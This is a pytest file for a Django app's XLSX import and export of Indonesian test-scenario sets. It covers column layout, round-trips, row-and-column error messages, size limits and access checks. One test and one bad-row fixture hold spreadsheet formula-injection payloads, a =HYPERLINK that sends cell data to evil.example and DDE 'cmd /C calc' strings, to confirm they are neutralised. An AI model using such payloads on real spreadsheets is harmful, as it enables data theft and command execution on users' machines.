"""Scenario sets as XLSX (issue 18, items 1 and 8): the agencies' column layout, export then
import gives the same scenarios, and a bad spreadsheet names every problem by row and column
and writes nothing."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.utils import translation
from openpyxl import Workbook, load_workbook

from laksana import tabular
from laksana.errors import NotAllowed, ServiceError
from laksana.quality import scenarios, spreadsheet
from laksana.quality.models import Priority, Scenario, ScenarioSet, ScenarioSetRevision

from .test_scenarios import login

pytestmark = pytest.mark.django_db

HEADER = [
    "No. Skenario",
    "Judul Skenario",
    "Kebutuhan/Fungsi yang Diuji",
    "Prasyarat",
    "Langkah Pengujian",
    "Data Masukan",
    "Hasil yang Diharapkan",
    "Prioritas",
]


def xlsx(rows: list[list[object]], *, title: str = "Skenario") -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.title = title
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def good_row(n: int, **extra: object) -> list[object]:
    values = {
        "no": f"SK-{n:02d}",
        "title": f"Simpan data pasien {n}",
        "req": "Pendaftaran pasien",
        "pre": "Masuk sebagai petugas",
        "steps": "1. Buka menu Pasien\n2. Isi formulir\n3. Simpan",
        "input": "Nama: Ni Made Sari",
        "expected": "Data tersimpan dan tampil di daftar",
        "priority": "Tinggi",
        **extra,
    }
    return list(values.values())


def counts() -> tuple[int, int, int]:
    return (
        ScenarioSet.objects.count(),
        Scenario.objects.count(),
        ScenarioSetRevision.objects.count(),
    )


@pytest.fixture
def sikesda_set(bali) -> ScenarioSet:
    return scenarios.create_set(
        bali["kadis"],
        bali.applications["sikesda"].pk,
        name="UAT SIKESDA",
        app_version="2.1",
        scenarios=[login(1), login(2, priority=Priority.LOW, input_data="")],
    )


def problems(data: bytes) -> tuple[str, ...]:
    with pytest.raises(ServiceError) as exc:
        spreadsheet.read_xlsx(data)
    assert exc.value.code == "invalid_spreadsheet"
    assert exc.value.field == "file"
    return exc.value.items


# --- the layout --------------------------------------------------------------------------------


def test_the_header_row_is_the_agencies_layout(sikesda_set):
    book = load_workbook(io.BytesIO(spreadsheet.write_xlsx(sikesda_set)))
    sheet = book["Skenario"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == HEADER
    assert rows[1][0] == "SK-01" and rows[1][7] == "Tinggi"
    assert rows[2][7] == "Rendah" and rows[2][5] is None
    assert book.sheetnames == ["Skenario", "Petunjuk"]


def test_export_then_import_gives_the_same_scenarios(bali, sikesda_set):
    data = spreadsheet.write_xlsx(sikesda_set)
    made = spreadsheet.import_xlsx(
        bali["kadis"], data, application_id=sikesda_set.application_id, name="Salinan"
    )
    assert scenarios.snapshot(made) == scenarios.snapshot(sikesda_set)
    again = spreadsheet.import_xlsx(bali["kadis"], data, set_id=sikesda_set.pk)
    assert again.pk == sikesda_set.pk
    sikesda_set.refresh_from_db()
    assert sikesda_set.revision == 2
    first, second = sikesda_set.revisions.order_by("number")
    assert first.scenarios == second.scenarios


def test_hostile_text_round_trips_and_is_never_a_formula(bali):
    hostile = {
        "title": '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
        "requirement": "+cmd|' /C calc'!A0",
        "steps": "-2+3+cmd|' /C notepad'!A0",
        "input_data": "@SUM(1+1)*cmd|' /C calc'!A0",
        "expected": "=1+1",
    }
    made = scenarios.create_set(
        bali["kadis"],
        bali.applications["sikesda"].pk,
        name="Jahat",
        scenarios=[login(1, **hostile)],
    )
    data = spreadsheet.write_xlsx(made)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)
    book = load_workbook(io.BytesIO(data))
    for row in book["Skenario"].iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
            if isinstance(cell.value, str) and cell.value.startswith(tabular.FORMULA_STARTS):
                assert cell.quotePrefix
    (read,) = spreadsheet.read_xlsx(data)
    for field, value in hostile.items():
        assert getattr(read, field) == value


def test_an_earlier_revision_is_exported_on_request(bali, sikesda_set):
    scenarios.save_scenario(bali["kadis"], sikesda_set.pk, login(3))
    first = spreadsheet.read_xlsx(spreadsheet.write_xlsx(sikesda_set, revision=1))
    latest = spreadsheet.read_xlsx(spreadsheet.write_xlsx(sikesda_set))
    assert [s.number for s in first] == ["SK-01", "SK-02"]
    assert [s.number for s in latest] == ["SK-01", "SK-02", "SK-03"]
    with pytest.raises(ServiceError) as exc:
        spreadsheet.write_xlsx(sikesda_set, revision=9)
    assert exc.value.code == "not_found"


def test_the_template_has_the_header_row_only():
    book = load_workbook(io.BytesIO(spreadsheet.template_xlsx()))
    rows = list(book["Skenario"].iter_rows(values_only=True))
    assert rows == [tuple(HEADER)]


def test_other_headers_agencies_use_are_read():
    data = xlsx(
        [
            ["Daftar Skenario Uji SIKESDA"],
            [],
            [
                " no ",
                "SKENARIO",
                "Fungsi",
                "Kondisi  Awal",
                "Langkah - langkah",
                "Data Uji",
                "Expected Result",
                "priority",
                "Keterangan",
            ],
            ["1", "Login", "Masuk", "", "Buka", "x", "Masuk", "high", "abaikan"],
            [2, "Logout", "", "", "Klik keluar", "", "Keluar", None],
        ]
    )
    first, second = spreadsheet.read_xlsx(data)
    assert (first.number, first.title, first.requirement, first.priority) == (
        "1",
        "Login",
        "Masuk",
        "tinggi",
    )
    assert (second.number, second.priority) == ("2", "sedang")


# --- bad spreadsheets --------------------------------------------------------------------------


def test_every_problem_is_named_by_row_and_column_and_nothing_is_written(bali, sikesda_set):
    data = xlsx(
        [
            HEADER,
            good_row(1),
            good_row(2, title=""),
            good_row(3, priority="Darurat"),
            good_row(1, steps=None),
            good_row(5, req="F" * 301),
            good_row(6, expected='=HYPERLINK("http://evil")'),
        ]
    )
    before = counts()
    with translation.override("id"), pytest.raises(ServiceError) as exc:
        spreadsheet.import_xlsx(bali["kadis"], data, set_id=sikesda_set.pk)
    items = exc.value.items
    assert counts() == before
    assert any(i.startswith("Baris 3, kolom Judul Skenario:") for i in items), items
    assert any(i.startswith("Baris 4, kolom Prioritas:") for i in items), items
    assert any(i.startswith("Baris 5, kolom Langkah Pengujian:") for i in items), items
    assert any(i.startswith("Baris 5, kolom No. Skenario:") and "2" in i for i in items), items
    assert any(i.startswith("Baris 6, kolom Kebutuhan/Fungsi yang Diuji:") for i in items), items
    assert any(i.startswith("Baris 7, kolom Hasil yang Diharapkan:") for i in items), items
    assert len(items) == 6


def test_the_headers_as_the_file_writes_them_name_the_problem():
    data = xlsx([["NO", "Skenario", "Langkah", "Hasil Diharapkan"], ["1", "", "x", "y"]])
    with translation.override("en"):
        assert problems(data) == ("Row 2, column Skenario: Scenario title is required.",)


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"No;Judul\n1;x\n", "not an XLSX"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "not an XLSX"),
        (b"PK\x03\x04" + b"\x00" * 100, "not an XLSX"),
        (b"", "not an XLSX"),
    ],
)
def test_a_file_that_is_not_a_workbook_is_refused(data, words):
    with translation.override("en"):
        (item,) = problems(data)
    assert words in item


def test_a_file_without_a_header_row_or_rows_is_refused():
    with translation.override("en"):
        (item,) = problems(xlsx([["Apa saja"], ["1", "2"]]))
        assert "no header row" in item
        (item,) = problems(xlsx([HEADER]))
        assert "no scenario rows" in item
        (item,) = problems(xlsx([["No", "Judul"], ["1", "x"]]))
        assert "Langkah Pengujian" in item and "Hasil yang Diharapkan" in item


def test_too_many_rows_or_bytes_are_refused(monkeypatch):
    monkeypatch.setattr(spreadsheet, "MAX_ROWS", 3)
    with translation.override("en"):
        (item,) = problems(xlsx([HEADER, *[good_row(n) for n in range(1, 6)]]))
    assert "more than 3" in item
    monkeypatch.setattr(spreadsheet, "MAX_BYTES", 100)
    with translation.override("en"):
        (item,) = problems(xlsx([HEADER, good_row(1)]))
    assert "too large" in item


def test_a_formula_cell_is_refused_not_evaluated():
    data = xlsx([HEADER, good_row(1, title="=1+1")])
    with translation.override("en"):
        (item,) = problems(data)
    assert item.startswith("Row 2, column Judul Skenario: the cell holds a formula")


def test_who_may_import(bali, djki, sikesda_set):
    data = spreadsheet.write_xlsx(sikesda_set)
    before = counts()
    with pytest.raises(NotAllowed):
        spreadsheet.import_xlsx(bali["dinkes_staf"], data, set_id=sikesda_set.pk)
    with pytest.raises(ServiceError) as exc:
        spreadsheet.import_xlsx(djki["kasie_app"], data, set_id=sikesda_set.pk)
    assert exc.value.code == "not_found"
    with pytest.raises(ServiceError) as exc:
        spreadsheet.import_xlsx(
            djki["kasie_app"], data, application_id=sikesda_set.application_id, name="x"
        )
    assert exc.value.code == "not_found"
    # The refusal comes before the file is read: a bad file does not reveal the set.
    with pytest.raises(ServiceError) as exc:
        spreadsheet.import_xlsx(djki["kasie_app"], b"junk", set_id=sikesda_set.pk)
    assert exc.value.code == "not_found"
    assert counts() == before


def test_control_characters_stored_before_are_left_out_of_the_export(bali, sikesda_set):
    from laksana.quality.models import ScenarioSetRevision

    revision = ScenarioSetRevision.objects.get(set=sikesda_set, number=1)
    revision.scenarios[0]["steps"] = "Buka\x01 menu"
    revision.save()
    (first, _second) = spreadsheet.read_xlsx(spreadsheet.write_xlsx(sikesda_set))
    assert first.steps == "Buka menu"
